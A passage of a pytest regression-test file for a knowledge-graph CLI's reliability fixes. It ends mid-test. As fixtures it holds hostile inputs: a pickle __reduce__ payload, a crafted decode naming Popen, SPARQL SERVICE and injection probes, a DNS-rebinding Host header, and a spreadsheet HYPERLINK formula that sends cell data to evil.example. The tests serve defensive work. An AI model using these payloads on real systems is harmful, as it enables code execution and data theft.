"""Issue #14, reliability: what an adversarial or a clumsy user hit. One or more regression tests
per numbered defect of the issue (each failed on the commit before the fix), with fault injection
where it needs one: a kill after each file operation of the publication, two concurrent builds,
crafted cache files, a symbolic link as the store, a 2 MB file, a user's files in the output folder.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import pickle
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from helpers import REPO, SEEDS
from helpers import tree as _tree
from rdflib import Graph, Literal
from typer.testing import CliRunner

from kg.cli import app
from kg.errors import BuildError, KgError

# (only names the starting commit had are imported here, so that each test there fails on its own
# assertions; the new API is imported in the tests that need it)
SEED_FILES = sorted(SEEDS.glob("*.txt"))
ONE = SEEDS / "004_8ee35a8ee1100a8c.txt"
COUNT = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
MARKER, STATE = ".kg-output", ".kg-state.json"
runner = CliRunner()


def _kg(*args: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kg.cli", *args], capture_output=True, text=True, cwd=REPO,
                          timeout=600, **kw)


def _kg_folder(path: Path) -> Path:
    """An empty folder marked as kg's (what a build leaves before its first export)."""
    from kg.pipeline.outdir import OutputFolder

    with OutputFolder(path):
        pass
    return path


def _build(paths, out: Path, **kw):
    from kg.pipeline import build

    kw.setdefault("html", False)
    kw.setdefault("validate", False)
    return build(paths, out, progress=None, **kw)


def _report(out: Path) -> dict:
    return json.loads((out / "report.json").read_text(encoding="utf-8"))


# ============================================================== 1. the store link is followed
def test_reliability_1_build_never_deletes_what_a_foreign_store_link_points_to(tmp_path):
    victim = tmp_path / "v"
    victim.mkdir()
    (victim / "a").write_text("x\n", encoding="utf-8")
    out = tmp_path / "o"
    out.mkdir()
    (out / "store").symlink_to(victim)
    for extra in ([], ["--force"]):
        result = runner.invoke(app, ["build", str(SEEDS), "-o", str(out), "-q", *extra])
        assert result.exit_code == 2, result.output
        assert (victim / "a").read_text(encoding="utf-8") == "x\n"
    assert "is not a store" in result.output or "not to a store this kg made" in result.output
    # a kg folder whose store link the user pointed elsewhere: refused too, before anything is parsed
    kg_out = _kg_folder(tmp_path / "kgout")
    (kg_out / "store").symlink_to(victim)
    result = runner.invoke(app, ["build", str(SEEDS), "-o", str(kg_out), "-q"])
    assert result.exit_code == 2 and "Move it away, or build with --no-store" in result.output
    assert (victim / "a").is_file() and not (kg_out / "graph.ttl").exists()


@pytest.mark.model
def test_reliability_1_no_store_build_leaves_a_foreign_store_alone(tmp_path):
    victim = tmp_path / "v"
    victim.mkdir()
    (victim / "a").write_text("x\n", encoding="utf-8")
    out = _kg_folder(tmp_path / "o")
    (out / "store").symlink_to(victim)
    _build([ONE], out, store=False)
    assert (victim / "a").is_file() and os.readlink(out / "store") == str(victim)
    assert _report(out)["store"] is None
    # readers ignore a store the report does not name
    result = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
    read = Graph().parse(out / "graph.ttl").parse(out / "derived.ttl")  # what kg query reads of the files
    assert result.exit_code == 0 and result.output.split()[-1] == str(len(read))


# ============================================================== 2. users' files in the output folder
def _users_files(out: Path) -> None:
    (out / ".build-tools").mkdir(parents=True)
    (out / ".build-tools" / "make.sh").write_text("echo mine\n", encoding="utf-8")
    (out / ".store-backup").mkdir()
    (out / ".store-backup" / "dump.nq").write_text("mine\n", encoding="utf-8")
    (out / ".events.csv.orig.tmp").write_text("mine\n", encoding="utf-8")
    (out / ".build-999999999-abcd").mkdir()  # looks like a killed build's staging folder; is not
    (out / "notes.txt").write_text("mine\n", encoding="utf-8")


def test_reliability_2_refuses_a_folder_that_is_not_kg_s(tmp_path):
    out = tmp_path / "o"
    _users_files(out)
    (out / "graph.ttl").write_text("mine\n", encoding="utf-8")
    before = _tree(out)
    result = runner.invoke(app, ["build", str(SEEDS), "-o", str(out)])
    assert result.exit_code == 2, result.output
    assert f"{out}: not empty and not a kg output folder" in result.output and "--force" in result.output
    assert _tree(out) == before  # nothing written, nothing deleted, not even a lock or a marker


def test_reliability_2_marker_has_a_format_version_and_newer_ones_are_refused(tmp_path):
    from kg.errors import UsageError
    from kg.pipeline.outdir import OutputFolder

    out = _kg_folder(tmp_path / "o")
    marker = json.loads((out / MARKER).read_text(encoding="utf-8"))
    assert marker["format"] == "kg-output" and marker["version"] == 1
    (out / MARKER).write_text(json.dumps({"format": "kg-output", "version": 99}), encoding="utf-8")
    with pytest.raises(UsageError, match="newer kg"):
        OutputFolder(out).open()
    (out / MARKER).write_text("#!/bin/sh\n", encoding="utf-8")
    with pytest.raises(UsageError, match="not a kg marker"):
        OutputFolder(out).open()


def test_reliability_2_the_repository_exports_folder_is_marked():
    """`make run` builds into exports/, which holds a README: the marker says it is kg's."""
    assert json.loads((REPO / "exports" / MARKER).read_text(encoding="utf-8"))["format"] == "kg-output"


@pytest.mark.model
def test_reliability_2_forced_and_repeated_builds_delete_nothing_kg_did_not_make(tmp_path):
    out = tmp_path / "o"
    _users_files(out)
    mine = _tree(out)
    result = runner.invoke(app, ["build", str(ONE), "-o", str(out), "-q", "--force", "--no-html", "--no-validate"])
    assert result.exit_code == 0, result.output
    # leftovers of a killed build, as the journal records them: removed by the next build
    from kg.pipeline.outdir import OutputFolder

    folder = OutputFolder(out).open()
    stale = [folder.reserve(".build-"), folder.reserve(".store-")]
    for p in stale:
        p.mkdir()
        (p / "x").write_text("half", encoding="utf-8")
    folder.close()
    _build([ONE], out)
    after = _tree(out)
    assert {k: after.get(k) for k in mine} == mine  # every file of the user, unchanged
    assert not any(p.exists() for p in stale)
    assert json.loads((out / STATE).read_text(encoding="utf-8"))["pending"] == []


@pytest.mark.model
def test_reliability_2_an_earlier_kg_s_build_folder_is_adopted(tmp_path):
    """A folder built before the marker existed (complete exports, report.json hashes, a store
    link to a hidden home): kg recognises it, marks it, and replaces its store as its own."""
    out = tmp_path / "o"
    _build([ONE], out)
    for name in (MARKER, STATE, ".kg-lock", ".kg-articles.jsonl"):
        (out / name).unlink()
    old_home = os.readlink(out / "store")
    _build(SEED_FILES[:1], out)
    assert json.loads((out / MARKER).read_text(encoding="utf-8"))["format"] == "kg-output"
    assert not (out / old_home).exists() and os.readlink(out / "store") != old_home
    (out / "report.json").write_text("{}", encoding="utf-8")  # no longer a complete build, and no marker
    (out / MARKER).unlink()
    result = runner.invoke(app, ["build", str(ONE), "-o", str(out)])
    assert result.exit_code == 2 and "not a kg output folder" in result.output


# ============================================================== 3. two builds into one folder
@pytest.mark.model
@pytest.mark.slow
def test_reliability_3_a_second_build_waits_for_the_first_and_the_store_matches(tmp_path):
    from kg.store import count_triples

    big = tmp_path / "big"
    big.mkdir()
    for i in range(12):  # 60 articles (progress lines are shown from 20): parsing them outlasts the second
        # build's start-up by seconds, so it meets the lock (with 20, a quiet machine finished the first in time)
        for f in SEED_FILES:
            (big / f"{f.stem}_{i}.txt").write_text(f.read_text(encoding="utf-8") + f"\nCopie {i}.\n", encoding="utf-8")
    out = tmp_path / "o"
    first = subprocess.Popen([sys.executable, "-m", "kg.cli", "build", str(big), "-o", str(out), "--no-html",
                              "--no-validate"], cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    seen = b""
    while b"[1/" not in seen:  # the first build is parsing, with the folder locked
        chunk = first.stderr.read1(256)
        assert chunk, "the first build ended before its first progress line"
        seen += chunk
    second = _kg("build", str(ONE), "-o", str(out), "--no-html", "--no-validate")
    first_out, first_err = first.communicate(timeout=600)
    assert first.returncode == 0, (seen + first_err).decode()
    assert second.returncode == 0, second.stderr
    assert "another kg build (process" in second.stderr and "waiting for it to finish" in second.stderr
    report = _report(out)
    assert report["articles"] == 1  # the second build, which waited, published last
    assert count_triples(out / "store") == report["triples"] == len(Graph().parse(out / "graph.ttl"))
    from kg.store import store_mismatch

    assert store_mismatch(out / "store") is None


def test_reliability_3_the_lock_is_exclusive_and_released_on_close(tmp_path):
    from kg.pipeline.outdir import OutputFolder

    out = tmp_path / "o"
    waits: list[str] = []
    first = OutputFolder(out).open()
    got = threading.Event()

    def second() -> None:
        with OutputFolder(out, on_wait=waits.append):
            got.set()

    t = threading.Thread(target=second)
    t.start()
    time.sleep(0.5)
    assert not got.is_set() and waits and f"process {os.getpid()}" in waits[0]
    first.close()
    t.join(timeout=10)
    assert got.is_set()


# ============================================================== 4. unpickling the cache ran code
class _Boom:
    def __init__(self, flag: Path):
        self.flag = flag

    def __reduce__(self):
        return (Path.write_text, (self.flag, "pwned"))


@pytest.mark.model
def test_reliability_4_crafted_cache_files_run_no_code(tmp_path):
    from kg.ingest import read_article
    from kg.pipeline.incremental import CACHE_DIR_NAME, ExtractionCache, article_key

    out = tmp_path / "o"
    _build([ONE], out, cache=True)
    flag = tmp_path / "pwned"
    cache = out / CACHE_DIR_NAME
    (cache / "manifest.pkl").write_bytes(pickle.dumps({"version": "x", "articles": _Boom(flag)}))
    entry = ExtractionCache(cache)._path(article_key(read_article(ONE)))
    assert entry.is_file()
    entry.write_bytes(pickle.dumps(_Boom(flag)))
    result = runner.invoke(app, ["build", str(ONE), str(SEED_FILES[0]), "-o", str(out), "-i", "--no-html",
                                 "--no-validate"])
    assert result.exit_code == 0, result.output
    assert "not a kg cache entry written by this kg (no kg header line)" in result.output
    assert str(entry) in result.output and "parsed again" in result.output
    result = runner.invoke(app, ["remove", SEED_FILES[0].stem, "-o", str(out), "--no-html", "--no-validate"])
    assert result.exit_code == 0, result.output
    assert not flag.exists()
    # the article manifest kg remove reads: a pickle there is refused by name
    (out / ".kg-articles.jsonl").write_bytes(pickle.dumps(_Boom(flag)))
    result = runner.invoke(app, ["remove", ONE.stem, "-o", str(out)])
    assert result.exit_code == 1 and ".kg-articles.jsonl" in result.output and "Traceback" not in result.output
    assert not flag.exists()


def test_reliability_4_cache_files_are_checked_data():
    from kg.errors import CacheError
    from kg.ingest import article_from_text
    from kg.pipeline.incremental import _dump_lines, _load_lines, decode, encode

    art = article_from_text("a", " date 2024-11 Les rebelles ont pris Alep.\u202e")
    assert decode(encode(art)) == art
    for crafted in ({"~c": "Popen", "f": {"args": "id"}}, {"~c": "Article", "f": {"id": "a", "__class__": 1}},
                    {"~n": [1, 2, 3]}, {"x": 1}):
        with pytest.raises(ValueError):
            decode(crafted)
    data = _dump_lines("kg-articles", [art], count=1)
    tampered = data.replace(b"Alep", b"Homs")
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        p = Path(tmp) / "m.jsonl"
        p.write_bytes(tampered)
        with pytest.raises(CacheError, match="checksum mismatch"):
            _load_lines(p, "kg-articles", "kg article manifest")
        p.write_bytes(data.replace(b'"version": 1', b'"version": 2'))
        with pytest.raises(CacheError, match="format version 2"):
            _load_lines(p, "kg-articles", "kg article manifest")


def test_reliability_4_cache_version_covers_extraction_sources_only(tmp_path, monkeypatch):
    import kg.pipeline.incremental as inc

    files = {p.relative_to(inc._PKG).as_posix() for p in inc._source_files()}
    assert {"extract/events.py", "nlp/pipeline.py", "lang/fr/timex.py", "lang/fr/numbers.py", "gazetteer.py",
            "geo.py", "ingest.py", "extract/batch.py", "nlp/segment.py", "lang/fr/patterns/events.jsonl",
            "data/places.jsonl"} <= files
    assert not any(f.startswith(("pipeline/", "view/", "rdf/", "store/")) for f in files) and "schema/spool.py" not in files
    # one place to change when extraction moves into packages
    fake = tmp_path / "kg"
    (fake / "extract").mkdir(parents=True)
    (fake / "extract" / "rules.py").write_text("x = 1\n", encoding="utf-8")
    (fake / "pipeline.py").write_text("VIEW_EVENTS = 1\n", encoding="utf-8")
    monkeypatch.setattr(inc, "_PKG", fake)
    monkeypatch.setattr(inc, "EXTRACTION_SOURCES", ("extract/**/*.py",))
    inc.version_key.cache_clear()
    try:
        before = inc.version_key()
        (fake / "pipeline.py").write_text("VIEW_EVENTS = 2\n", encoding="utf-8")
        inc.version_key.cache_clear()
        assert inc.version_key() == before
        (fake / "extract" / "rules.py").write_text("x = 2\n", encoding="utf-8")
        inc.version_key.cache_clear()
        assert inc.version_key() != before
    finally:
        inc.version_key.cache_clear()


# ============================================================== 5. one long file aborted the batch
@pytest.mark.model
@pytest.mark.slow
def test_reliability_5_a_2_mb_file_is_built_in_pieces(tmp_path):
    """Over 1,000,000 characters (spaCy's limit), 2.1 MB of UTF-8: built, offsets exact, with the
    other inputs of the batch."""
    src = tmp_path / "in"
    src.mkdir()
    sentence = ("Les rebelles ont pris le contrôle de la ville de Homs samedi, selon l'Observatoire syrien "
                "des droits de l'homme.\n")
    filler = ("é" * 999 + "\n") * 20
    text = " date 2016-05-01\n" + (sentence + filler) * 53
    assert len(text) > 1_000_000 and len(text.encode("utf-8")) > 2_000_000
    (src / "long.txt").write_text(text, encoding="utf-8")
    (src / ONE.name).write_bytes(ONE.read_bytes())
    result = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "o"), "-q", "--no-html", "--no-validate"])
    assert result.exit_code == 0, result.output
    assert _report(tmp_path / "o")["articles"] == 2
    from kg.ingest import read_article
    from kg.pipeline import extract_articles

    art = read_article(src / "long.txt")
    ex = extract_articles([art], progress=None)[0]
    assert all(art.text[m.start:m.end] == m.text for m in ex.mentions)
    assert max(e.triggers[0][0] for e in ex.events) > 1_000_000
    assert all(art.text[b:e] and art.text[b:e] in sentence for ev in ex.events for b, e in ev.triggers)
    by_offset = sorted(ex.events, key=lambda e: e.triggers[0])
    assert [e.sentence for e in by_offset] == sorted(e.sentence for e in by_offset)  # numbered through the pieces


@pytest.mark.model
def test_reliability_5_a_text_over_the_model_limit_is_parsed_in_pieces(tmp_path, monkeypatch):
    """The same at small scale (fault injection: the model's limit lowered to 30,000 characters)."""
    from kg.nlp import load_nlp

    monkeypatch.setattr(load_nlp(), "max_length", 30_000)
    paragraphs = [f.read_text(encoding="utf-8") for f in SEED_FILES]
    text = " date 2016-05-01\n" + "\n".join(paragraphs * 4)
    assert len(text) > 50_000
    src = tmp_path / "in"
    src.mkdir()
    (src / "long.txt").write_text(text, encoding="utf-8")
    (src / ONE.name).write_bytes(ONE.read_bytes())
    result = runner.invoke(app, ["build", str(src), "-o", str(tmp_path / "o"), "-q", "--no-html", "--no-validate"])
    assert result.exit_code == 0, result.output
    g = Graph().parse(tmp_path / "o" / "graph.ttl")
    from kg.namespace import NIF

    anchors = 0
    for m, anchor in g.subject_objects(NIF.anchorOf):
        if "/article/long#" in str(m):
            b, e = int(g.value(m, NIF.beginIndex)), int(g.value(m, NIF.endIndex))
            assert text[b:e] == str(anchor)
            anchors += 1
    assert anchors > 100


def test_reliability_5_pieces_cover_the_text_and_offsets_move_every_field():
    import dataclasses

    from kg.nlp.segment import OFFSET_FIELDS, split_text

    text = ("Phrase une. " * 30 + "\n") * 40
    spans = split_text(text, 1000)
    assert spans[0][0] == 0 and spans[-1][1] == len(text)
    assert all(a[1] == b[0] for a, b in zip(spans, spans[1:], strict=False))
    assert all(0 < e - s <= 1000 for s, e in spans)
    assert all(text[e - 1] == "\n" for _s, e in spans[:-1])  # cut after line breaks
    for cls, (moved, kept) in OFFSET_FIELDS.items():  # a new field must be declared moved or kept
        assert {f.name for f in dataclasses.fields(cls)} == moved | kept, cls.__name__


# ============================================================== 6. kg serve reached out, never gave up
class _Recorder(BaseHTTPRequestHandler):
    hits: list[str] = []

    def _any(self) -> None:
        _Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "application/sparql-results+json")
        self.end_headers()
        self.wfile.write(b'{"head":{"vars":["s"]},"results":{"bindings":[{"s":{"type":"literal","value":"SECRET"}}]}}')

    do_GET = do_POST = _any

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def outside():
    """A local HTTP server standing for any URL a query could make kg fetch."""
    _Recorder.hits = []
    httpd = HTTPServer(("127.0.0.1", 0), _Recorder)
    t = threading.Thread(target=httpd.serve_forever, daemon=True)
    t.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/sparql"
    httpd.shutdown()
    httpd.server_close()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _small_store(tmp_path: Path, triples: int = 300) -> Path:
    """A store of a few hundred triples: enough that a cartesian product of five of them runs for hours."""
    from kg.serve import prepare_store

    body = "".join(f"<urn:s{i}> <urn:p{i % 7}> \"{i}\" .\n" for i in range(triples))
    (tmp_path / "g.trig").write_text(f"<urn:g> {{\n{body}}}\n", encoding="utf-8")
    return prepare_store(tmp_path / "g.trig", tmp_path / "store")


def _post(url: str, query: str, host: str | None = None) -> tuple[int, str]:
    req = urllib.request.Request(url, data=urllib.parse.urlencode({"query": query}).encode(),
                                 headers={"Accept": "application/sparql-results+json",
                                          "Content-Type": "application/x-www-form-urlencoded", **({"Host": host} if host else {})})
    try:
        with urllib.request.urlopen(req, timeout=60) as resp:
            return resp.status, resp.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8", "replace")


def test_reliability_6_serve_refuses_service_and_other_sites(tmp_path, outside):
    from kg.serve import serve

    store = _small_store(tmp_path)
    with serve(store, port=_free_port(), timeout=60) as server:
        for q in (f"SELECT * WHERE {{ SERVICE <{outside}> {{ ?s ?p ?o }} }}",
                  f"SELECT * WHERE {{ \\u0053ERVICE <{outside}> {{ ?s ?p ?o }} }}",
                  f"select * {{ service silent <{outside}> {{ ?s ?p ?o }} }}"):
            status, body = _post(server.url, q)
            assert status == 403 and "federated" in body, (status, body)
            status, _ = _post(server.url + "?" + urllib.parse.urlencode({"query": q}), "ASK {}")
            assert status == 403
        assert _Recorder.hits == [] and "SECRET" not in body
        status, body = _post(server.url, "ASK {}", host="rebind.attacker.example:80")
        assert status == 403 and "Host" in body
        assert _post(server.url, "ASK {}", host=f"localhost:{server.port}")[0] == 200
        assert _post(server.url, 'SELECT ("SERVICE" AS ?x) {}')[0] == 200  # the word in a string is fine


def test_reliability_6_serve_stops_a_query_past_its_timeout(tmp_path, monkeypatch):
    import psutil

    import kg.serve.proxy
    from kg.serve import serve

    monkeypatch.setattr(kg.serve.proxy, "GRACE", 3.0)  # the proxy's wait past the query timeout
    store = _small_store(tmp_path)
    with serve(store, port=_free_port(), query_timeout=2, timeout=60) as server:
        # a sort over a cartesian product: Oxigraph's own timeout does not stop it; the proxy does
        first = server.process.pid
        t0 = time.monotonic()
        status, body = _post(server.url, "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l } ORDER BY ?a")
        assert status == 503 and "was stopped" in body, (status, body)
        assert time.monotonic() - t0 < 45
        assert not psutil.pid_exists(first) or psutil.Process(first).status() == "zombie"
        assert server.restarts == 1 and server.running
        assert _post(server.url, "ASK {}")[0] == 200


@pytest.mark.model
def test_reliability_6_kg_query_refuses_service_unless_asked(tmp_path, outside):
    from helpers import seed_build

    q = f"SELECT ?s WHERE {{ SERVICE <{outside}> {{ ?s ?p ?o }} }}"
    out = seed_build()
    nostore = tmp_path / "nostore"
    nostore.mkdir()
    (nostore / "graph.ttl").write_bytes((out / "graph.ttl").read_bytes())
    for graph in (out / "graph.ttl", nostore / "graph.ttl"):  # the store path and the rdflib path
        result = runner.invoke(app, ["query", q, "-g", str(graph)])
        assert result.exit_code == 1 and "--allow-service" in result.output, result.output
    assert _Recorder.hits == []
    result = runner.invoke(app, ["query", q, "-g", str(nostore / "graph.ttl"), "--allow-service", "-f", "csv"])
    assert result.exit_code == 0 and "SECRET" in result.output, result.output
    assert _Recorder.hits


# ============================================================== 7. parameters pasted into the text
PROBE = ('PREFIX skos: <http://www.w3.org/2004/02/skos/core#>\n'
         'SELECT ?INJECTED ?label ("see WHERE { here" AS ?note) WHERE { ?x skos:prefLabel ?label '
         'FILTER(STR(?label) = STR(?name)) }\n')
PROBE_VALUE = " AS ?a) WHERE { { SELECT (COUNT(*) AS ?INJECTED) WHERE { ?s ?p ?o } } } #"


@pytest.mark.model
def test_reliability_7_the_injection_probe_binds_on_both_paths_alike(tmp_path):
    from helpers import seed_build

    from kg.store import format_result, load_graph, query_store, run_query

    out = seed_build()
    (tmp_path / "probe.rq").write_text(PROBE, encoding="utf-8")
    result = runner.invoke(app, ["query", str(tmp_path / "probe.rq"), "-g", str(out / "graph.ttl"),
                                 "-p", f"name={PROBE_VALUE}", "-f", "csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip().splitlines() == ["INJECTED,label,note"]
    g = load_graph(out / "graph.ttl")
    for value in (Literal(PROBE_VALUE), Literal("Homs", lang="fr"), Literal('x"y\\z')):
        binding = {"name": value}
        assert format_result(query_store(out / "store", PROBE, binding), "csv") == \
            format_result(run_query(g, PROBE, binding), "csv")
    homs = format_result(query_store(out / "store", PROBE, {"name": Literal("Homs")}), "csv").splitlines()[1:]
    assert homs and set(homs) == {",Homs,see WHERE { here"}


@pytest.mark.model
@pytest.mark.parametrize("name", sorted(p.stem for p in (Path(__file__).resolve().parents[1] / "queries").glob("*.rq")))
def test_reliability_7_named_queries_with_parameters_answer_alike_on_store_and_rdflib(name):
    from helpers import seed_build

    from kg.queries import bind_params, list_queries, load_query
    from kg.store import format_result, load_query_graph, query_store, run_query

    out = seed_build()
    g = load_query_graph(out / "graph.ttl")  # with derived.ttl, as kg query reads the files
    sample = {"place": "Homs", "actor": "Armée syrienne", "since": "2012", "type": "Airstrike",
              "group": "ckg:Civilians", "source": "OSDH", "agency": "AFP", "class": "ckg:RebelGroup",
              "disputer": "Etat islamique", "minSources": "3", "side": "media",
              "article": "ckgr:article/001_cba15eb8f773454e", "event": "ckgr:event/10bc0f16c5665f31"}
    info = next(q for q in list_queries() if q.name == name)
    params = {p.name: sample[p.name] for p in info.params if p.name in sample}
    assert params
    text = load_query(name)
    found = 0
    for chosen in [params] + [{k: v} for k, v in params.items()]:  # all together, then each alone
        bound = bind_params(chosen, g)
        store_rows = _rows(format_result(query_store(out / "store", text, bound), "csv"))
        assert store_rows == _rows(format_result(run_query(g, text, bound), "csv")), chosen
        found += len(store_rows) - 1
    assert found, "no binding returned rows: the comparison would be empty"


def _rows(text: str) -> list:
    """CSV rows, header first, each GROUP_CONCAT cell's parts sorted (their order is the engine's)."""
    rows = list(csv.reader(text.splitlines()))
    return rows[:1] + sorted(["; ".join(sorted(c.split("; "))) for c in r] for r in rows[1:])


def test_reliability_7_values_go_first_in_the_outer_group_found_by_a_lexer():
    from kg.store.sparql import outer_group_end, with_values

    q = 'PREFIX x: <urn:x#> # a WHERE { in a comment\nSELECT ("WHERE {" AS ?w) (EXISTS { ?a ?b ?c } AS ?e)\nWHERE { ?a ?b ?c }'
    assert q[:outer_group_end(q)].endswith("WHERE {") and q.count("{", 0, outer_group_end(q)) == 4
    out = with_values(q, ["a"], ['"v\\" } #"'])
    assert out.endswith('WHERE { VALUES (?a) { ("v\\" } #") }  ?a ?b ?c }')
    from kg.errors import QueryError

    with pytest.raises(QueryError, match="not one RDF term"):
        with_values(q, ["a"], ['"v" } SELECT'])
    with pytest.raises(QueryError, match="short form"):
        with_values("CONSTRUCT WHERE { ?s ?p ?o }", ["s"], ["<urn:s>"])
    import kg.store

    assert not hasattr(kg.store, "_with_values")


# ============================================================== 8. store and exports of two builds
@pytest.mark.model
def test_reliability_8_report_names_the_store_and_readers_check_it(tmp_path):
    out = tmp_path / "o"
    report = _build(SEED_FILES[:2], out)
    assert "store" in _report(out), "report.json does not cover the store"
    from kg.store import store_digest, store_mismatch

    assert _report(out)["store"] == store_digest(out / "store")
    ok = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
    answer = str(report.triples + _derived_count((out / "derived.ttl").read_bytes()))  # derived facts too
    assert ok.exit_code == 0 and ok.stdout.split() == ["n", answer] and "warning" not in ok.output
    # the store of another build (what a kill between the two left before the fix)
    data = _report(out)
    data["store"] = "0" * 64
    (out / "report.json").write_text(json.dumps(data), encoding="utf-8")
    assert "does not match" in store_mismatch(out / "store")
    result = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
    assert result.exit_code == 0 and "does not match" in result.output and "answering from" in result.output
    assert result.stdout.split() == ["n", answer]
    view = runner.invoke(app, ["view", "-g", str(out / "graph.ttl"), "-o", str(tmp_path / "v.html")])
    assert view.exit_code == 0 and "does not match" in view.output
    # and when graph.ttl does not match report.json either: say so, answer nothing
    with open(out / "graph.ttl", "a", encoding="utf-8") as fh:
        fh.write("\n")
    result = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl")])
    assert result.exit_code == 1 and "Run 'kg build' again" in result.output


def _derived_count(data: bytes) -> int:
    """How many triples a ``derived.ttl`` holds: a query on the default graph answers the
    report's triples and these (README "Derived facts")."""
    from rdflib import Graph

    return len(Graph().parse(data=data.decode("utf-8"), format="turtle"))


def _answer(out: Path, versions: list[dict]) -> str:
    """What ``COUNT(*)`` over the build in ``out`` answers: its report's triples plus the derived
    facts of the build that report names (found among ``versions`` by the digest it records)."""
    report = _report(out)
    mine = [v["derived.ttl"] for v in versions if hashlib.sha256(v["derived.ttl"]).hexdigest()
            == report["files"]["derived.ttl"]]
    return str(report["triples"] + _derived_count(mine[0]))


def _kill_at(step: int, paths, out: Path, extractions: list) -> bool:
    """Build ``paths`` into ``out`` from ``extractions`` in a process that SIGKILLs itself right
    after its ``step``-th file operation (rename, symbolic link) in ``out`` (see
    tests/kill_helpers.py); True if it was killed there, False if the build ran to its end."""
    import multiprocessing

    import kill_helpers

    ctx = multiprocessing.get_context("forkserver")
    ctx.set_forkserver_preload(["kg.pipeline"])
    proc = ctx.Process(target=kill_helpers.build_killed_at, args=(step, list(paths), out, extractions))
    proc.start()
    proc.join(timeout=600)
    assert proc.exitcode is not None, "the build hung"
    assert proc.exitcode in (0, -signal.SIGKILL), proc.exitcode
    return proc.exitcode == -signal.SIGKILL


@pytest.mark.model
@pytest.mark.slow
def test_reliability_8_a_kill_after_each_publication_step_is_detected_and_repaired(tmp_path, monkeypatch):
    """Kill a build after each file operation of its publication: every export is whole (the
    previous build's or the new one's), readers never answer from a store that report.json does
    not name, the user's file stays, and the next build repairs the folder."""
    import kill_helpers

    import kg.pipeline.extraction as extraction
    from kg.ingest import ingest
    from kg.store import count_triples

    out = tmp_path / "o"
    small = sorted(SEED_FILES, key=lambda f: f.stat().st_size)
    old_paths, new_paths = small[:1], small[:2]
    extractions = extraction.extract_articles(ingest(new_paths).articles, progress=None)
    monkeypatch.setattr(extraction, "iter_extractions", extraction.iter_extractions)  # restored after the test
    kill_helpers.given(extraction, extractions)
    _build(old_paths, out)
    (out / "notes.txt").write_text("mine\n", encoding="utf-8")
    old = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file() and not p.name.startswith(".")}
    fresh = tmp_path / "fresh"
    _build(new_paths, fresh)
    new = {p.name: p.read_bytes() for p in fresh.iterdir() if p.is_file() and not p.name.startswith(".")}
    new["notes.txt"] = b"mine\n"
    killed_at = []
    for step in range(1, 40):
        if not _kill_at(step, new_paths, out, extractions):
            break  # the build ran to its end: every step has been tried
        killed_at.append(step)
        for name, data in ((p.name, p.read_bytes()) for p in out.iterdir() if p.is_file()
                           and not p.name.startswith(".")):
            assert data in (old.get(name), new.get(name)), f"step {step}: {name} is neither old nor new"
        assert (out / "notes.txt").read_text(encoding="utf-8") == "mine\n"
        answer = _answer(out, [old, new])
        result = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
        if "does not match" not in result.output:  # the reader trusts the store: its answer is the report's
            assert result.exit_code == 0 and result.stdout.split() == ["n", answer], (step, result.output)
        else:  # it does not: it answers from graph files that agree with report.json, or not at all
            assert result.exit_code == 1 or result.stdout.split() == ["n", answer], (step, result.output)
        _build(old_paths, out)  # repaired: back to the old build for the next kill
        again = runner.invoke(app, ["query", COUNT, "-g", str(out / "graph.ttl"), "-f", "csv"])
        assert again.output.split() == ["n", _answer(out, [old])]
        assert _report(out)["triples"] == count_triples(out / "store")
        assert sorted(p.name for p in out.iterdir() if p.name.startswith(".build-")) == []
    assert len(killed_at) >= 8, killed_at  # journal writes, store home, link, 5 exports + manifest, report
    assert json.loads((out / STATE).read_text(encoding="utf-8"))["pending"] == []
    homes = [p.name for p in out.iterdir() if p.name.startswith(".store-")]
    assert homes == [os.readlink(out / "store")]


# ============================================================== 9. kg remove used an older cache
@pytest.mark.model
def test_reliability_9_remove_works_from_the_current_build(tmp_path):
    out = tmp_path / "o"
    _build(SEED_FILES[:4], out, cache=True)  # an incremental build of four articles
    _build(SEED_FILES[3:], out)  # then a plain build of two others
    result = runner.invoke(app, ["remove", SEED_FILES[4].stem, "-o", str(out), "-q", "--no-html", "--no-validate"])
    assert result.exit_code == 0, result.output
    assert _report(out)["articles"] == 1
    _build(SEED_FILES[3:4], tmp_path / "alone")
    assert (out / "graph.ttl").read_bytes() == (tmp_path / "alone" / "graph.ttl").read_bytes()
    result = runner.invoke(app, ["remove", SEED_FILES[0].stem, "-o", str(out)])
    assert result.exit_code == 2 and "no article" in result.output  # not in the current build: a usage error


# ============================================================== 10. CSV formula injection
@pytest.mark.model
def test_reliability_10_csv_cells_cannot_be_formulas(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "evil.txt").write_text(
        ' date 2016-05-01\n=HYPERLINK("http://evil.example/?"&A1;"clic") Les rebelles ont pris le contrôle de la '
        "ville de Homs samedi, selon l'Observatoire syrien des droits de l'homme.\n"
        "+Les forces du régime ont bombardé Alep lundi\u202e, selon l'OSDH.\n", encoding="utf-8")
    out = tmp_path / "o"
    report = _build([src], out)
    assert report.events >= 2
    for name in ("events.csv", "entities.csv"):
        with open(out / name, encoding="utf-8", newline="") as fh:
